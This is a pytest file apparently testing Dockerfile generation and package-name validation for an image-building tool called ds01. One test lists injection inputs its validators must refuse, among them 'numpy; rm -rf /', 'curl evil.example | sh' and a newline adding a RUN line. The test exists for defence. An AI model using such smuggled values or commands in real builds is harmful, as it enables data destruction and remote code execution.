"""The Dockerfile ds01 writes (images/dockerfile.py), read back with a small parser: every
built-in framework's real base image (never pulled here) makes a Dockerfile of exactly the
instructions ds01 means, package names cannot add instructions or reach the shell, and an
edited file is recognised as the user's."""

from __future__ import annotations

import pytest

from ds01.config.schema import BUILTIN_FRAMEWORKS
from ds01.errors import UsageError
from ds01.images.dockerfile import (
    ImageSpec,
    appended,
    base_images,
    instructions,
    render,
    unedited,
)
from ds01.images.packages import apt_packages, pip_packages


def spec(**kw: object) -> ImageSpec:
    fields: dict[str, object] = {
        "name": "thesis",
        "ref": "ds01-alice/thesis:latest",
        "base": "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
        "framework": "pytorch",
    }
    fields.update(kw)
    return ImageSpec(**fields)  # type: ignore[arg-type]


@pytest.mark.parametrize("framework", sorted(BUILTIN_FRAMEWORKS))
def test_each_framework_template_parses_to_the_steps_ds01_means(framework: str) -> None:
    text = render(
        spec(
            base=BUILTIN_FRAMEWORKS[framework],
            framework=framework,
            pip=("numpy", "scipy>=1.10,<2"),
            apt=("git",),
            requirements=True,
        )
    )
    got = instructions(text)
    assert [w for w, _ in got] == ["FROM", "RUN", "COPY", "RUN", "RUN", "RUN", "WORKDIR"]
    assert got[0] == ("FROM", BUILTIN_FRAMEWORKS[framework])
    assert base_images(text) == [BUILTIN_FRAMEWORKS[framework]]
    assert "'git'" in got[1][1] and got[1][1].startswith("apt-get update")
    assert got[2] == ("COPY", "requirements.txt /tmp/ds01-requirements.txt")
    assert got[4] == ("RUN", "pip install --no-cache-dir  'numpy'  'scipy>=1.10,<2'")
    assert got[6] == ("WORKDIR", "/workspace")
    assert unedited(text)


def test_the_built_in_framework_images_are_the_documented_ones() -> None:
    assert BUILTIN_FRAMEWORKS == {
        "pytorch": "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
        "tensorflow": "tensorflow/tensorflow:2.18.0-gpu",
        "jax": "nvcr.io/nvidia/jax:24.10-py3",
    }


def test_no_packages_means_no_package_steps() -> None:
    words = [w for w, _ in instructions(render(spec()))]
    assert words == ["FROM", "RUN", "WORKDIR"]


@pytest.mark.parametrize(
    "name",
    [
        "numpy\nRUN touch /pwned",
        "numpy; rm -rf /",
        "numpy && curl evil.example | sh",
        "$(id)",
        "`id`",
        "numpy'",
        'numpy"',
        "--index-url=https://evil.example",
        "-e.",
        "numpy ",
        "numpy\\",
        "https://evil.example/pkg.tar.gz",
        "numpy|sh",
        "",
    ],
    ids=repr,
)
def test_a_package_name_that_could_reach_the_shell_or_add_a_line_is_refused(name: str) -> None:
    with pytest.raises(UsageError, match="is not a pip package name"):
        pip_packages([name])
    with pytest.raises(UsageError, match="is not a apt package name"):
        apt_packages([name])


@pytest.mark.parametrize(
    "name",
    ["numpy", "torch==2.5.1", "transformers[torch]>=4.40", "scipy>=1.10,<2", "jax[cuda12]", "a"],
)
def test_ordinary_pip_specifiers_pass(name: str) -> None:
    assert pip_packages([name]) == [name]


def test_apt_names_with_versions_pass() -> None:
    assert apt_packages(["git", "libgl1", "g++", "htop=3.2.2-2"]) == [
        "git",
        "libgl1",
        "g++",
        "htop=3.2.2-2",
    ]


def test_an_edit_anywhere_makes_the_file_the_users() -> None:
    text = render(spec(pip=("numpy",)))
    assert unedited(text)
    assert not unedited(text.replace("'numpy'", "'numpy==1.26'"))
    assert not unedited(text + "RUN echo mine\n")
    assert not unedited("FROM busybox\n")


def test_image_add_appends_steps_and_keeps_what_was_there() -> None:
    text = render(spec()).replace("WORKDIR /workspace", "WORKDIR /workspace\nENV MINE=1")
    out = appended(text, ("pandas",), ("htop",))
    assert out.startswith(text)
    assert [w for w, _ in instructions(out)][-3:] == ["ENV", "RUN", "RUN"]
    assert instructions(out)[-1] == ("RUN", "pip install --no-cache-dir  'pandas'")


def test_base_images_skip_stages_scratch_and_variables() -> None:
    text = (
        "ARG V=1\nFROM --platform=linux/amd64 python:3.11 AS build\nRUN x\n"
        "FROM build\nFROM scratch\nFROM repo/img:${V}\nFROM debian:12\n"
    )
    assert base_images(text) == ["python:3.11", "debian:12"]


@pytest.mark.parametrize(
    ("path", "owner"),
    [
        ("ds01-alice/thesis", "alice"),
        ("ds01-h_baker_hertie_school_lan_3f9a0c1d/thesis", "h_baker_hertie_school_lan_3f9a0c1d"),
        ("ds01-gate_test/x", None),  # '_' without the hash: no sanitised name looks like that
        ("ds01-alice", None),  # no repository under it
        ("alice/thesis", None),
        ("ds01-/x", None),
    ],
)
def test_which_repository_paths_are_a_users_ds01_namespace(path: str, owner: str | None) -> None:
    from ds01.images.recipe import namespace_owner

    assert namespace_owner(path) == owner
